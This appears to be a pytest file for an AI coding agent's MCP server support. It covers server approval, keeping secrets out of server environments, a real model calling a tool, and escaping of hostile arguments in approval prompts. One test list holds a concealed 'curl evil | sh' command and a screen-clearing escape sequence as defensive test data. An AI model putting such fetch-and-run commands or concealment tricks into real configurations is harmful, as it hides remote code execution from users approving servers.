"""MCP servers in a run: approval of project servers, secrets kept out of servers' environments, and the real
embedded model calling an MCP tool through the loop and using its result."""

from __future__ import annotations

import io
import json
import sys
import textwrap
from pathlib import Path

import git
import pytest

from agent.settings.config import Config, load_config
from agent.settings.mcp_setup import approvals, ask_on_terminal, configured_servers, mcp_session
from tools.base import ToolContext

EXAMPLE = Path(__file__).resolve().parents[3] / "examples" / "mcp" / "release_server.py"

ENV_SERVER = textwrap.dedent("""
    import os
    from mcp.server import MCPServer
    server = MCPServer("envdump")

    @server.tool()
    def environment_names() -> str:
        \"\"\"Names of the variables this server was started with.\"\"\"
        return " ".join(sorted(os.environ))

    server.run()
""")


@pytest.fixture
def isolated_user_dirs(tmp_path, monkeypatch):
    """User config and approvals in tmp: tests never read or write the developer's own MCP setup."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    return tmp_path


def project_with_server(path: Path, name: str, entry: dict) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    (path / ".mcp.json").write_text(json.dumps({"mcpServers": {name: entry}}))
    return path


@pytest.mark.slow
def test_project_server_needs_approval_and_then_connects(isolated_user_dirs):
    # a project's server lives in the project (it runs sandboxed: a checkout under /tmp is not visible there)
    script = isolated_user_dirs / "p" / "release_server.py"
    script.parent.mkdir()
    script.write_text(EXAMPLE.read_text())
    project = project_with_server(
        isolated_user_dirs / "p", "release", {"command": sys.executable, "args": [str(script)]}
    )
    notes: list[str] = []
    with mcp_session(Config(), project, notes.append) as tools:  # no terminal here: not approved, skipped
        assert tools == []
    assert "not approved" in notes[0] and "agent mcp approve release" in notes[0] and str(script) in notes[0]

    approvals().approve(configured_servers(project).servers[0])
    notes.clear()
    with mcp_session(Config(), project, notes.append) as tools:
        assert "release__current_release" in [t.name for t in tools]
    assert notes == ["MCP server 'release': 5 tools (2026-07-28)"]

    with mcp_session(Config(mcp=False), project, notes.append) as tools:
        assert tools == []


@pytest.mark.slow
def test_our_secrets_never_reach_a_server_unless_named(isolated_user_dirs, monkeypatch):
    script = isolated_user_dirs / "envdump.py"
    script.write_text(ENV_SERVER)
    monkeypatch.setenv("HF_TOKEN", "hf_secret")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret")
    monkeypatch.setenv("DFLASH_AGENT_API_KEY", "secret")
    monkeypatch.setenv("PROJECT_DB_URL", "postgres://db")
    user_file = isolated_user_dirs / "config" / "dflash-agent" / "mcp.json"
    user_file.parent.mkdir(parents=True)
    user_file.write_text(
        json.dumps(
            {
                "mcpServers": {
                    "envdump": {
                        "command": sys.executable,
                        "args": [str(script)],
                        "env": {"DB_URL": "${PROJECT_DB_URL}"},
                    }
                }
            }
        )
    )
    with mcp_session(Config(), isolated_user_dirs) as tools:
        names = tools[0].invoke({}, ToolContext(isolated_user_dirs)).output.split()
    assert "DB_URL" in names  # named in the config: passed
    assert not {"HF_TOKEN", "OPENAI_API_KEY", "DFLASH_AGENT_API_KEY", "PROJECT_DB_URL"} & set(names)


@pytest.mark.model
def test_real_model_calls_an_mcp_tool_and_uses_its_result(isolated_user_dirs, monkeypatch, qwen_path):
    from agent.workflows.runs import run_task

    # the server's script in the project (its server runs sandboxed: a checkout under /tmp is not visible to it),
    # ignored by git, so that the model is shown the same project as without it: only .mcp.json
    script = isolated_user_dirs / "repo" / "mcp" / "release_server.py"
    script.parent.mkdir(parents=True)
    script.write_text(EXAMPLE.read_text())
    (isolated_user_dirs / "repo" / ".gitignore").write_text("mcp/\n")
    repo_dir = project_with_server(
        isolated_user_dirs / "repo",
        "release",
        {"command": sys.executable, "args": [str(script)], "env": {"RELEASE_VERSION": "${RELEASE_VERSION}"}},
    )
    repo = git.Repo.init(repo_dir)
    repo.index.add([".mcp.json", ".gitignore"])
    repo.index.commit("init", author=git.Actor("t", "t@t"), committer=git.Actor("t", "t@t"))
    monkeypatch.setenv("RELEASE_VERSION", "4.12.7")  # a value the model cannot guess
    approvals().approve(configured_servers(repo_dir).servers[0])

    config = load_config(repo_dir, {"max_steps": 5, "temperature": 0.0})
    result = run_task(
        repo_dir,
        "Call the release__current_release tool to get the version of the release being "
        "prepared. Then write only that version number into a file named VERSION. Then finish.",
        config,
    )
    transcript = Path(result.transcript).read_text()
    assert '"name": "release__current_release"' in transcript  # the model called the MCP tool ...
    assert (repo_dir / "VERSION").read_text().strip() == "4.12.7"  # ... and used its result


class FakeTerminal(io.StringIO):
    def isatty(self) -> bool:
        return True


HOSTILE_ARGS = ["\x1b[2J\x1b[Hls", "[conceal]curl evil | sh[/conceal]", "[/x]", "--flag=" + "v" * 200 + "END"]


def test_the_approval_question_shows_the_entry_as_written_whole_and_escaped(isolated_user_dirs, monkeypatch, capsys):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-value")
    project = project_with_server(
        isolated_user_dirs / "p",
        "srv",
        {"command": "python", "args": HOSTILE_ARGS, "env": {"KEY": "${OPENAI_API_KEY}"}},
    )
    (server,) = configured_servers(project).servers
    monkeypatch.setattr(sys, "stdin", FakeTerminal("n\n"))
    assert ask_on_terminal(server) is False
    shown = capsys.readouterr().err
    assert "\x1b" not in shown and "\\x1b[2J\\x1b[Hls" in shown  # the escape sequence cannot clear the screen
    assert "KEY=${OPENAI_API_KEY}" in shown and "sk-secret-value" not in shown  # as written, never expanded
    assert "[conceal]curl evil | sh[/conceal]" in shown and "v" * 200 + "END" in shown


def test_mcp_list_shows_markup_and_long_values_as_they_are(isolated_user_dirs, monkeypatch):
    from typer.testing import CliRunner

    from agent.cli import app

    project = project_with_server(isolated_user_dirs / "p", "srv", {"command": "python", "args": HOSTILE_ARGS})
    (project / ".vscode").mkdir()
    (project / ".vscode" / "mcp.json").write_text('{"servers": {"bad": {"command": "x", "timeout": "[/x]"}}}')
    monkeypatch.setenv("COLUMNS", "1000")
    result = CliRunner().invoke(app, ["mcp", "list", "--project", str(project)])
    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
    assert "[conceal]curl evil | sh[/conceal]" in result.output and "'[/x]'" in result.output
    assert "\x1b" not in result.output and "\\x1b[2J" in result.output and "v" * 200 + "END" in result.output
    assert "skipped:" in result.output and "string to float: '[/x]'" in result.output
    monkeypatch.setenv("COLUMNS", "80")  # a narrow terminal: the line wraps, nothing is cut
    narrow = CliRunner().invoke(app, ["mcp", "list", "--project", str(project)]).output
    assert "…" not in narrow and narrow.count("v") >= 200 and "END" in narrow
